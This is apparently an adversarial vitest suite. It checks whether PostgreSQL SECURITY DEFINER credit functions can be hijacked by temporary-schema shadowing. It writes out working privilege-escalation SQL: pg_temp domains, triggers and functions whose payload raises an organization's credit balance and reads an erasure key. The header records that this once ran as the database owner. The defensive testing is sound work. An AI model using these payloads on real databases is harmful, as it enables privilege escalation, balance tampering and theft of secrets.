/**
 * Adversarial suite (issue 12, finding 1, critical): temporary-schema shadowing. With `SET search_path = ''`
 * PostgreSQL still searches the session's temporary schema FIRST for types and tables, and PUBLIC may create
 * temporary objects. An authenticated session creates, in pg_temp, a domain named like a type the credit functions
 * use (whose CHECK runs the attacker's function), a table named like one they read, and functions named like ones
 * they call; then it calls consume_credits_rpc / consume_credits_batch for another organization (and for its own).
 * The attacker's code must never run: no notice from it, its side-effect table stays empty, no balance moves.
 *
 * NOTE: the type-shadowing tests FAIL while a credit function runs with `SET search_path = ''`, and pass once every
 * SECURITY DEFINER function pins a search_path ending with pg_temp (`SET search_path = pg_catalog, pg_temp`), the
 * fix the credit functions' owners are landing in sql/functions (the policy pack's rule, policies/rules.ts, now
 * refuses an empty path). Measured by altering the three functions back to '' in the test database: the domain's
 * CHECK ran as the owner (postgres) from consume_credits_rpc's and consume_credits_batch's variable initialisation
 * and from guardian.may_consume_for; table and function shadows did not (every table is schema-qualified, and
 * pg_temp is never searched for functions). The tests are written against the attack, not against the fix.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { battlefield, type Battlefield, session, state } from "./fixture";

let bf: Battlefield;
beforeAll(async () => {
  bf = await battlefield("adv_temp");
  // Where the attacker's code would leave its mark, as the owner would (it runs as the owner if it runs at all).
  await bf.db.query(`CREATE TABLE public.adv_side_effects (at timestamptz NOT NULL DEFAULT clock_timestamp(), who text, what text)`);
  await bf.db.query(`GRANT INSERT, SELECT ON public.adv_side_effects TO PUBLIC`);
});
afterAll(() => bf?.drop());
// Each attack starts from an empty side-effect table (a mark left by one attack must not be blamed on the next).
beforeEach(async () => {
  await bf.db.query(`TRUNCATE public.adv_side_effects`);
});

const MARK = "ATTACKER CODE RAN";

/**
 * The attacker's payload: leave a mark, raise its own org's pool, read the erasure key, as issue 12 reported it.
 * Run with the attacker's own privileges (e.g. when its own query uses a shadowed type) it can do none of that and
 * carries on quietly: what matters is whether it ever runs as someone else (the functions' owner).
 */
const payload = (what: string) => `
  RAISE NOTICE '${MARK} (${what}) as %', current_user;
  INSERT INTO public.adv_side_effects (who, what) VALUES (current_user, '${what}');
  BEGIN
    UPDATE public.organization_credits SET ai_credits_available = 1000000 WHERE organization_id = '__OWN__';
    PERFORM 1 FROM guardian.erasure_key;
  EXCEPTION WHEN insufficient_privilege THEN
    NULL;
  END;`;
const ATTACKER = "authenticated";
/** Marks the attacker's code left while running as anyone but the attacker. */
const escalations = (notices: string[]) => notices.filter((n) => n.includes(MARK) && !n.includes(` as ${ATTACKER} [`) && !n.endsWith(` as ${ATTACKER}`));
const SIDE_EFFECTS = `SELECT who, what FROM public.adv_side_effects WHERE who <> '${ATTACKER}'`;

/** Temporary objects shadowing what the credit functions use. Each statement runs as the authenticated attacker. */
const SHADOWS: Record<string, string[]> = {
  "types (a domain over text, json, jsonb whose CHECK runs the attacker's function)": [
    `CREATE FUNCTION pg_temp.evil(v pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $$ BEGIN ${payload("domain check")} RETURN true; END $$`,
    `CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.evil(VALUE))`,
    `CREATE DOMAIN pg_temp.json AS pg_catalog.json CHECK (pg_temp.evil(VALUE::pg_catalog.text))`,
    `CREATE DOMAIN pg_temp.jsonb AS pg_catalog.jsonb CHECK (pg_temp.evil(VALUE::pg_catalog.text))`,
    `CREATE DOMAIN pg_temp.uuid AS pg_catalog.uuid CHECK (pg_temp.evil(VALUE::pg_catalog.text))`,
    `CREATE DOMAIN pg_temp.record_text AS pg_catalog.text CHECK (pg_temp.evil(VALUE))`,
  ],
  "tables (organization_credits, credit_actions, profiles, idempotency_keys with a trigger running the attacker's code)": [
    `CREATE FUNCTION pg_temp.evil_trigger() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN ${payload("table trigger")} RETURN NEW; END $$`,
    `CREATE TABLE pg_temp.organization_credits (LIKE public.organization_credits INCLUDING DEFAULTS)`,
    `CREATE TABLE pg_temp.credit_actions (LIKE public.credit_actions INCLUDING DEFAULTS)`,
    `CREATE TABLE pg_temp.profiles (LIKE public.profiles INCLUDING DEFAULTS)`,
    `CREATE TABLE pg_temp.credit_consumption_logs (LIKE public.credit_consumption_logs INCLUDING DEFAULTS)`,
    `CREATE TABLE pg_temp.idempotency_keys (organization_id uuid, idempotency_key text, result json, action_type text, quantity int, created_at timestamptz)`,
    `INSERT INTO pg_temp.credit_actions (action_type, credits_cost, ai_credits_required, whatsapp_credits_required, email_credits_required, sms_credits_required) VALUES ('ai_chat', 0, 0, 0, 0, 0)`,
    `CREATE TRIGGER evil BEFORE INSERT OR UPDATE ON pg_temp.organization_credits FOR EACH ROW EXECUTE FUNCTION pg_temp.evil_trigger()`,
    `CREATE TRIGGER evil BEFORE INSERT OR UPDATE ON pg_temp.credit_consumption_logs FOR EACH ROW EXECUTE FUNCTION pg_temp.evil_trigger()`,
    `CREATE TRIGGER evil BEFORE INSERT OR UPDATE ON pg_temp.idempotency_keys FOR EACH ROW EXECUTE FUNCTION pg_temp.evil_trigger()`,
  ],
  "functions (may_consume_for, json_build_object, now, sha256, encode, current_setting)": [
    `CREATE FUNCTION pg_temp.may_consume_for(uuid) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN ${payload("function may_consume_for")} RETURN true; END $$`,
    `CREATE FUNCTION pg_temp.now() RETURNS timestamptz LANGUAGE plpgsql AS $$ BEGIN ${payload("function now")} RETURN pg_catalog.now(); END $$`,
    `CREATE FUNCTION pg_temp.sha256(bytea) RETURNS bytea LANGUAGE plpgsql AS $$ BEGIN ${payload("function sha256")} RETURN pg_catalog.sha256($1); END $$`,
    `CREATE FUNCTION pg_temp.encode(bytea, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ${payload("function encode")} RETURN pg_catalog.encode($1, $2); END $$`,
    `CREATE FUNCTION pg_temp.json_build_object(VARIADIC pg_catalog.text[]) RETURNS pg_catalog.json LANGUAGE plpgsql AS $$ BEGIN ${payload("function json_build_object")} RETURN '{}'; END $$`,
    `CREATE FUNCTION pg_temp.current_setting(text, boolean) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ${payload("function current_setting")} RETURN pg_catalog.current_setting($1, $2); END $$`,
  ],
};

/** Sets up the shadows as the attacker (member of B) and makes the calls; returns what the attacker saw. */
async function attack(shadows: string[], calls: { sql: string; params: unknown[] }[]) {
  const s = await session(bf.db, { role: "authenticated", sub: bf.user.memberB });
  const results: any[] = [];
  const errors: string[] = [];
  let marksInSession = -1;
  try {
    for (const sql of shadows) await s.c.query(sql.replace(/__OWN__/g, bf.org.B));
    for (const call of calls) {
      await s.c.query("SAVEPOINT call");
      try {
        results.push((await s.c.query(call.sql, call.params as any[])).rows[0].r);
        await s.c.query("RELEASE SAVEPOINT call");
      } catch (e: any) {
        errors.push(e.message);
        await s.c.query("ROLLBACK TO SAVEPOINT call");
      }
    }
    // Inside the same transaction, before anything could be rolled back.
    marksInSession = (await s.c.query(SIDE_EFFECTS)).rowCount ?? -1;
  } finally {
    await s.end(true);
  }
  return { results, errors, notices: s.notices, marksInSession };
}

describe("temporary-schema shadowing: the attacker's code never runs as the owner", () => {
  for (const [label, shadows] of Object.entries(SHADOWS)) {
    // May FAIL until sql/functions pins search_path = pg_catalog, pg_temp (see the header).
    it(`shadowing ${label}, then consume_credits_rpc and consume_credits_batch for another org`, async () => {
      const before = await state(bf.db);
      const r = await attack(shadows, [
        { sql: `SELECT public.consume_credits_rpc($1, 'ai_chat', 1, 'shadow-key') AS r`, params: [bf.org.A] },
        { sql: `SELECT public.consume_credits_rpc($1, 'ai_chat') AS r`, params: [bf.org.A] },
        { sql: `SELECT public.consume_credits_batch($1, '[{"action_type": "ai_chat", "quantity": 1}]'::jsonb) AS r`, params: [bf.org.A] },
      ]);
      expect(escalations(r.notices)).toEqual([]);
      expect(r.marksInSession).toBe(0);
      expect(r.errors).toEqual([]);
      expect(r.results.map((x) => x.error_code)).toEqual(["FORBIDDEN", "FORBIDDEN", "FORBIDDEN"]);
      expect(await bf.db.query(SIDE_EFFECTS)).toEqual([]);
      expect(await state(bf.db)).toEqual(before);
    });

    // May FAIL until sql/functions pins search_path = pg_catalog, pg_temp (see the header).
    it(`shadowing ${label}, then consume_credits_rpc for its own org: one honest debit, nothing else`, async () => {
      const before = await state(bf.db);
      const r = await attack(shadows, [
        { sql: `SELECT public.consume_credits_rpc($1, 'ai_chat', 1, $2) AS r`, params: [bf.org.B, `own-${label.slice(0, 8)}`] },
      ]);
      expect(escalations(r.notices)).toEqual([]);
      expect(r.marksInSession).toBe(0);
      expect(r.errors).toEqual([]);
      expect(r.results[0]).toMatchObject({ success: true, consumed: { ai: 1, whatsapp: 0, email: 0, sms: 0 } });
      expect(await bf.db.query(SIDE_EFFECTS)).toEqual([]);
      const after = await state(bf.db);
      expect(after.balances[bf.org.B]).toEqual({
        ...before.balances[bf.org.B],
        ai: Number(before.balances[bf.org.B].ai) - 1,
        // the unified balance follows (ai_chat costs 1), floored at 0
        credits_remaining: Math.max(0, Number(before.balances[bf.org.B].credits_remaining) - 1),
      });
      for (const o of [bf.org.A, bf.org.S]) expect(after.balances[o]).toEqual(before.balances[o]);
      expect(after.rows["public.credit_consumption_logs"]).toBe(before.rows["public.credit_consumption_logs"] + 1);
    });
  }

  it("the RLS helpers (SECURITY DEFINER, evaluated inside every policy) do not run a shadowing domain either", async () => {
    const before = await state(bf.db);
    const s = await session(bf.db, { role: "authenticated", sub: bf.user.memberB });
    let seen: string[] = [];
    let marks = -1;
    try {
      for (const sql of SHADOWS[Object.keys(SHADOWS)[0]]) await s.c.query(sql.replace(/__OWN__/g, bf.org.B));
      // (pg_catalog.text named: the attacker's own pg_temp.text would run its check as itself, which proves nothing.)
      seen = (await s.c.query(`SELECT organization_id::pg_catalog.text AS o FROM public.organization_credits`)).rows.map((x) => x.o);
      marks = (await s.c.query(SIDE_EFFECTS)).rowCount ?? -1;
    } finally {
      await s.end(true);
    }
    expect(escalations(s.notices)).toEqual([]);
    expect(marks).toBe(0);
    expect(seen).toEqual([bf.org.B]);
    expect(await state(bf.db)).toEqual(before);
  });
});
